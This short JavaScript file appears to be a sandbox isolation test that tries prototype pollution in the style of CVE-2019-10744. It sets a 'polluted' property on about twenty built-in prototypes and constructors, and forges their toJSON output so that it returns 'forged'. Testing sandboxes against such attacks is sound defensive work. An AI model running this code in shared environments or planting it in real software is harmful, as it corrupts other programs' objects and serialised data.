// class: prototype pollution
// tries: to leave properties on the prototypes of the language for the next execution
// source: CVE-2019-10744
// ending: value "polluted"
// tools: []
// outbound: []

const holders = [Object, Array, Function, String, Number, Boolean, Symbol, BigInt, Promise, RegExp, Error, TypeError, Map, Set, WeakMap, Date, ArrayBuffer, Uint8Array, DataView, Proxy, Intl.NumberFormat];
for (const holder of holders) {
  if (holder.prototype) { holder.prototype.left = 'polluted'; Object.defineProperty(holder.prototype, 'toJSON', { value: () => 'forged', configurable: true }); }
  holder.left = 'polluted';
}
return [].left;
